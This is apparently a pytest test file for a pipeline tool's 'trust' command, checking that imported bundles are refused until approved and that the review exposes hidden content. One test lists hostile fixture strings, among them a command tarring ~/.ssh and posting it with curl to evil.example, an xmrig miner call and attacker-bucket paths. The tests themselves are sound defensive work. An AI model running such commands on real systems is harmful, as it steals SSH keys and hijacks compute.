"""Trust from the CLI, in a real subprocess: an imported bundle cannot run, be submitted, published or
exported until `workbench trust DIR` approved it as it is; after that it runs; any change makes it
untrusted again; the review shows everything a hostile pipeline.yaml hides."""

from __future__ import annotations

import os
import subprocess
import sys

import pytest
from share_helpers import REPO
from trust_builders import hostile_ir, mark_graph, with_pipeline, workbench

from workbench.share.bundle import export_bundle, import_bundle


@pytest.fixture(scope="module")
def marker(tmp_path_factory):
    return tmp_path_factory.mktemp("mark") / "ran.txt"


@pytest.fixture(scope="module")
def mark_zip(tmp_path_factory, marker):
    return export_bundle(mark_graph(marker), tmp_path_factory.mktemp("zip") / "mark.zip", render=False)


@pytest.fixture
def folder(mark_zip, marker, tmp_path):
    """The mark bundle imported (untrusted) into a fresh folder; the mark is not there yet."""
    marker.unlink(missing_ok=True)
    return import_bundle(mark_zip, tmp_path / "incoming").folder


def refusal(path, folder) -> str:
    return (f"error: {path}: from the bundle {folder.resolve()}, which you have not trusted; "
            f"review it with: workbench trust {folder.resolve()}")


def test_every_command_that_runs_sends_or_republishes_refuses_an_untrusted_bundle(folder, marker, tmp_path):
    kfp = ("--target", "kfp", "--host", "http://127.0.0.1:9")
    commands = [
        ("run", folder / "pipeline.yaml", "--backend", "subprocess"),
        ("run", folder / "pipeline.wbp", "--backend", "subprocess"),
        ("submit", folder / "pipeline.yaml", *kfp),
        ("publish", folder / "pipeline.wbp", *kfp),
        ("export", folder / "pipeline.wbp", "-o", tmp_path / "again.zip"),
        ("library", "publish", folder / "pipeline.wbp"),
    ]
    for command in commands:
        result = workbench(*command)
        path = command[2] if command[0] == "library" else command[1]
        assert (result.returncode, result.stderr.strip()) == (1, refusal(path, folder)), command
    assert not marker.exists() and not (tmp_path / "again.zip").exists()
    assert workbench("runs", "list").stdout.strip() == "no runs yet"
    assert "leave-mark" not in workbench("library", "list").stdout


def test_trust_then_run_then_revoke(folder, marker):
    unconfirmed = workbench("trust", folder)
    assert unconfirmed.returncode == 1 and "task leave-mark in pipeline.yaml" in unconfirmed.stdout
    assert "no terminal to confirm" in unconfirmed.stderr and f"workbench trust {folder} --yes" in unconfirmed.stderr
    assert workbench("run", folder / "pipeline.yaml", "--backend", "subprocess").returncode == 1

    trusted = workbench("trust", folder, "--yes")
    assert trusted.returncode == 0 and trusted.stdout.strip().splitlines()[-1].startswith("trusted:")
    ran = workbench("run", folder / "pipeline.yaml", "--backend", "subprocess")
    assert ran.returncode == 0, ran.stderr
    assert marker.read_text() == "ran\n" and "succeeded" in workbench("runs", "list").stdout

    assert workbench("trust", folder, "--revoke").returncode == 0
    again = workbench("run", folder / "pipeline.yaml", "--backend", "subprocess")
    assert (again.returncode, again.stderr.strip()) == (1, refusal(folder / "pipeline.yaml", folder))
    assert marker.read_text() == "ran\n"


def test_trust_asks_at_a_terminal(folder):
    """With a terminal, `n` approves nothing and `y` approves."""
    for answer, code in ((b"n\n", 1), (b"y\n", 0)):
        main, child = os.openpty()
        os.write(main, answer)
        result = subprocess.run([sys.executable, "-m", "workbench", "trust", str(folder)], stdin=child,
                                capture_output=True, text=True, timeout=120, cwd=REPO,
                                env={**os.environ, "PYTHONPATH": str(REPO)})
        os.close(main), os.close(child)
        assert result.returncode == code, result.stderr
        assert "[y/N]" in result.stdout
    assert "already trusted" in workbench("trust", folder).stdout


def test_a_change_after_trust_makes_the_bundle_untrusted_again(folder, marker):
    assert workbench("trust", folder, "--yes").returncode == 0
    pipeline = folder / "pipeline.yaml"
    original = pipeline.read_text()
    pipeline.write_text(original.replace('- echo ran >> "$0"', '- echo owned >> "$0"'))
    assert 'echo owned' in pipeline.read_text()
    result = workbench("run", folder / "pipeline.yaml", "--backend", "subprocess")
    assert result.returncode == 1 and "which changed since it was imported" in result.stderr
    assert len(result.stderr.strip().splitlines()) == 1 and not marker.exists()
    refused = workbench("trust", folder, "--yes")
    assert refused.returncode == 1 and "pipeline.yaml: sha256 does not match the manifest" in refused.stderr


def test_the_review_shows_everything_a_hostile_pipeline_hides(mark_zip, marker, tmp_path):
    bundle = with_pipeline(mark_zip, hostile_ir(), tmp_path / "hostile.zip")
    folder = import_bundle(bundle, tmp_path / "hostile").folder
    result = workbench("trust", folder)
    assert result.returncode == 1
    lines = result.stdout.splitlines()
    assert lines[1].startswith("!!! WARNING: pipeline.yaml is NOT what pipeline.wbp compiles to")
    text = result.stdout
    for expected in [
        "task steal-keys \u201cFriendly preprocessing\u201d in pipeline.yaml", "image:   evil.example/stealer:1",
        "tar c ~/.ssh | curl --data-binary @- {{$.inputs.parameters['url']}}",  # args
        'url="https://evil.example/upload"',  # a constant input
        "env:     AWS_PROFILE=production", "cpuLimit: 64.0", "resourceMemoryLimit: 512G",  # env, resources
        "secretName: prod-db-password", "constant: home-directory-pvc", "pool: gpu-production",  # platform config
        "task outer/inner-miner \u201cCompute summary\u201d in pipeline.yaml", "os.system('xmrig --donate-level 0')",
        "executor exec-hidden in pipeline.yaml (no task of that file runs it)", "evil.example/hidden:2",
        "task forever/again nests component 'comp-self' inside itself", "names component 'comp-missing'",
        "pipeline root (where remote runs write artifacts): gs://attacker-bucket/loot", 'target="~/.ssh"',
        "task leave-mark in pipeline.wbp (compiled)",  # what `run DIR/pipeline.wbp` would run
        "executor: exec-fetch (importer)", "constant: gs://attacker-bucket/payload.bin",
    ]:
        assert expected in text, expected
    refused = workbench("run", folder / "pipeline.yaml", "--backend", "subprocess")
    assert refused.returncode == 1 and "workbench trust" in refused.stderr and not marker.exists()


def test_trust_of_something_that_is_not_a_bundle_is_one_line(tmp_path):
    (tmp_path / "mine").mkdir()
    result = workbench("trust", tmp_path / "mine")
    assert result.returncode == 1 and result.stderr.strip() == (
        f"error: {tmp_path / 'mine'}: not an imported bundle (no manifest.json here or above); "
        "`workbench import NAME.zip` unpacks one")


@pytest.mark.docker
def test_docker_runs_only_a_trusted_bundle(folder, docker_client, base_image, isolated_data_dir):
    """Refused: no container, no workspace, no run. Trusted: the same command starts a container."""
    import secrets

    from workbench.runs.docker_backend import RUN_LABEL

    in_base = {"WORKBENCH_IMAGE_MAP": f"python:3.11-slim={base_image}"}
    run_id = f"20261202-000000-{secrets.token_hex(3)}"
    command = ("run", folder / "pipeline.yaml", "--backend", "docker", "--run-id", run_id, "--no-cache")
    result = workbench(*command, env=in_base)
    assert (result.returncode, result.stderr.strip()) == (1, refusal(folder / "pipeline.yaml", folder))
    assert docker_client.containers.list(all=True, filters={"label": f"{RUN_LABEL}={run_id}"}) == []
    assert not (isolated_data_dir / "workspaces" / run_id).exists()
    assert workbench("runs", "list").stdout.strip() == "no runs yet"
    assert workbench("trust", folder, "--yes").returncode == 0
    ran = workbench(*command, env=in_base)  # the task's host path is not in the container: it fails there
    assert f"run {run_id} failed" in ran.stdout and "Directory nonexistent" in ran.stdout, ran.stderr
    assert (isolated_data_dir / "workspaces" / run_id).is_dir() and run_id in workbench("runs", "list").stdout
